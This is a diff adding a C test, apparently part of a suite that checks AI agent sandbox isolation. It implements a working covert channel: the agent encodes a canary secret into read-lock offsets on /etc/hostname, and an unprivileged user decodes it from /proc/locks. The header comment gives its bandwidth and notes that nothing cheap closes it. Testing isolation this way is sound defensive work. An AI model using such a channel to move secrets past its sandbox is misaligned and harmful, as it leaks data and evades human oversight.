@@ -1,0 +1,73 @@
+/* covert_flock - [covert] byte-range locks on a file every process can read (/etc/hostname):
+ * the agent takes read locks at offsets 2^20*i + 12-bit chunk; /proc/locks shows every lock's
+ * range to every user.
+ * Verifier: uid 65534 reads /proc/locks while the agent waits and decodes.
+ * Closes it: nothing cheap (locks on shared read-only files are legitimate); a private mount of
+ * the system dirs or hiding /proc/locks. Bandwidth: 64 bits per lock, thousands per second.
+ * Threat model: docs/threat-model.md (covert channels). */
+#include <fcntl.h>
+#include <sys/stat.h>
+
+#include "atk.h"
+
+static int agent(struct atk_ctx *c)
+{
+    int fd = (int)atk_try(c, "open /etc/hostname", open("/etc/hostname", O_RDONLY));
+    if (fd < 0)
+        return 0;
+    for (int i = 0; i < 4; i++) {
+        char h[4] = {0};
+        memcpy(h, c->secret + 2 + 3 * i, 3);
+        struct flock fl = {.l_type = F_RDLCK, .l_whence = SEEK_SET,
+                           .l_start = (off_t)((1L << 20) * (i + 1) + strtol(h, NULL, 16)), .l_len = 1};
+        if (atk_try(c, "F_SETLK read lock", fcntl(fd, F_SETLK, &fl)) < 0)
+            break;
+    }
+    atk_sync(c, "locked");
+    return 0;
+}
+
+static int rd(struct atk_ctx *c, char *out, size_t n)
+{
+    struct stat st;
+    FILE *f = fopen("/proc/locks", "r");
+    if (!f || stat("/etc/hostname", &st) < 0) {
+        if (f)
+            fclose(f);
+        return 0;
+    }
+    char line[512], got[32] = "mk000000000000";
+    int seen = 0;
+    while (fgets(line, sizeof(line), f)) {
+        unsigned maj, min;
+        unsigned long ino;
+        long start;
+        if (sscanf(line, "%*d: POSIX %*s READ %*d %x:%x:%lu %ld", &maj, &min, &ino, &start) != 4 || ino != st.st_ino)
+            continue;
+        int i = (int)(start >> 20) - 1;
+        if (i < 0 || i > 3)
+            continue;
+        char h[4];
+        snprintf(h, sizeof(h), "%03lx", start & 0xfff);
+        memcpy(got + 2 + 3 * i, h, 3);
+        seen |= 1 << i;
+    }
+    fclose(f);
+    if (seen == 15 && strcmp(got, c->canary) == 0) {
+        snprintf(out, n, "uid 65534 decoded the canary from lock ranges in /proc/locks");
+        return 1;
+    }
+    return 0;
+}
+
+static void on_sync(struct atk_ctx *c, const char *tag)
+{
+    (void)tag;
+    char out[200];
+    if (atk_as_uid(c, ATK_NOBODY, rd, out, sizeof(out)) == 1)
+        atk_evidence(c, "%s", out);
+}
+
+static const struct atk A = {"covert_flock", "canary in byte-range lock offsets (/proc/locks)", ATK_COVERT, NULL, agent,
+                             on_sync, NULL, NULL};
+ATK_MAIN(A)
